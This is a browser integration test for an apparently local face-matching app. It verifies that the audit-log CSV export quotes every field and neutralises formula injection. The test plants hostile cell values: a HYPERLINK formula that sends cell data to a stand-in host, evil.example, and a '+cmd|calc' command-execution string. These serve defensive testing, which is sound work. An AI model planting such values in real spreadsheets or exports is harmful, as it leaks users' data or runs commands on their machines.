// Issue 13, "lawful by design, second round", through the real facade in Chromium (real models, real photos, real
// IndexedDB). Where a claim is about storage, storage is read (or written) directly, not through the app.
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { launchBrowser, openHarness, readDeviceStorage, type WatchedPage } from './browser';

let browser: Browser;
let harness: WatchedPage;
let page: Page;

declare global {
  interface Window {
    /** The matcher a test is working with, kept between page.evaluate calls. */
    lawful: Awaited<ReturnType<Window['facelocal']['openMatcher']>>;
  }
}

beforeAll(async () => {
  browser = await launchBrowser();
  harness = await openHarness(browser, inject('baseUrl'));
  page = harness.page;
});

afterAll(async () => {
  expect(harness.offOriginRequests()).toEqual([]);
  expect(harness.requestsWithData()).toEqual([]);
  await harness.close();
  await browser.close();
});

/** Adds a row to a store of the database, directly (as another version of the app, or an attacker, might). */
async function putDirect(database: string, store: string, value: unknown): Promise<void> {
  await page.evaluate(async ({ database, store, value }) => {
    const db = await new Promise<IDBDatabase>((resolve, reject) => {
      const req = indexedDB.open(database);
      req.onsuccess = () => resolve(req.result);
      req.onerror = () => reject(req.error);
    });
    await new Promise<void>((resolve, reject) => {
      const tx = db.transaction(store, 'readwrite');
      tx.objectStore(store).put(value);
      tx.oncomplete = () => resolve();
      tx.onerror = () => reject(tx.error);
    });
    db.close();
  }, { database, store, value });
}

describe('audit CSV (item 9)', () => {
  it('neutralises cells a spreadsheet would run as formulas, and quotes every field', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    await page.evaluate(async () => { window.lawful = await window.facelocal.openMatcher({ databaseName: 'lawful-csv' }); });
    await putDirect('lawful-csv', 'audit', { id: 'planted', at: Date.now(), action: 'import', outcome: hostile, personId: '+cmd|calc' });
    const text = await page.evaluate(async () => (await window.lawful.exportAuditLog()).text());
    const lines = text.split('\r\n').filter(Boolean);
    expect(lines[0]).toBe('"time","action","outcome","personId"');
    for (const line of lines) expect(line.startsWith('"')).toBe(true);
    const planted = lines.find((l) => l.includes('HYPERLINK'))!;
    expect(planted).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(planted.endsWith(`"'+cmd|calc"`)).toBe(true);
    expect((await readDeviceStorage(page)).stores['lawful-csv/audit']).toContainEqual(expect.objectContaining({ id: 'planted', outcome: hostile }));
  });
});
